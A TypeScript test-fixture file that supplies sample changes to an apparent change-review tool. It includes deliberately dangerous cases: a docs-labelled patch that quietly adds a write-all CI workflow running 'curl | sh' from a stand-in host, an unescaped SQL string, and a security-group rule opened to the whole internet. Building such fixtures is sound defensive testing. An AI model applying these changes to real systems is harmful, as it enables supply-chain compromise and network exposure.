import type { DrivenChange } from '../../../dev/review-driver';

/** A change of one row with one violation. */
export function paymentChange(id: number): DrivenChange {
  const rows = [{ table: 'public.payments', key: { id }, expect: { version: 1 }, set: { state: 'checked' } }];
  return {
    sourceTool: 'SQLCAS',
    raw: JSON.stringify({ rows }),
    metadata: { table_name: 'payments', affected_rows: 1 },
  };
}

/** All customers, more than the limit: two violations. */
export function creditChange(note: string): DrivenChange {
  return {
    sourceTool: 'SQLDryRun',
    raw: `UPDATE customers SET credit_cents = credit_cents + 500, note = '${note}'`,
    metadata: { table_name: 'customers', affected_rows: 2_000 },
  };
}

export function patchChange(base: string): DrivenChange {
  const raw = `diff --git a/README.md b/README.md
--- a/README.md
+++ b/README.md
@@ -1 +1,4 @@
-one
+# Shop
+
+Prices are in cents, and a refund above 500 needs a second person.
+Support: https://shop.example/help
diff --git a/.github/workflows/release.yml b/.github/workflows/release.yml
new file mode 100644
--- /dev/null
+++ b/.github/workflows/release.yml
@@ -0,0 +1,8 @@
+on: push
+permissions: write-all
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@main
+      - run: curl -s https://get.example/install.sh | sh
`;
  return {
    target: 'repo',
    sourceTool: 'GitPatch',
    raw,
    metadata: { base_commit: base, message: 'docs: say what a refund needs' },
  };
}

export function flagChange(url: string): DrivenChange {
  const body = [
    { op: 'test', path: '/on', value: false },
    { op: 'replace', path: '/on', value: true },
    { op: 'add', path: '/note', value: 'rolled out to everyone' },
  ];
  const raw = { method: 'PATCH', url, contentType: 'application/json-patch+json', body };
  return { target: 'api', sourceTool: 'HTTPPatch', raw: JSON.stringify(raw), metadata: {} };
}

export function planChange(): DrivenChange {
  const change = (actions: readonly string[], before: object | null, after: object | null): object => ({
    actions,
    before,
    after,
    after_unknown: {},
    before_sensitive: {},
    after_sensitive: {},
  });
  const resource = (type: string, name: string, changed: object): object => ({
    address: `${type}.${name}`,
    mode: 'managed',
    type,
    name,
    provider_name: 'registry.terraform.io/hashicorp/aws',
    change: changed,
  });
  const resource_changes = [
    resource('aws_sns_topic', 'orders', change(['delete'], { name: 'orders', fifo_topic: false }, null)),
    resource(
      'aws_security_group_rule',
      'office',
      change(
        ['update'],
        { type: 'ingress', from_port: 443, to_port: 443, protocol: 'tcp', cidr_blocks: ['10.0.0.0/8'] },
        { type: 'ingress', from_port: 0, to_port: 65_535, protocol: 'tcp', cidr_blocks: ['0.0.0.0/0'] },
      ),
    ),
  ];
  const configuration = { root_module: {} };
  const plan = { format_version: '1.2', terraform_version: '1.9.0', resource_changes, configuration };
  return { target: 'infra', sourceTool: 'TerraformPlan', raw: JSON.stringify(plan), metadata: {} };
}

export function plainChange(): DrivenChange {
  return {
    target: 'infra',
    sourceTool: 'PlainText',
    raw: 'restart the worker\non host seven\n',
    metadata: { hostile: true },
  };
}
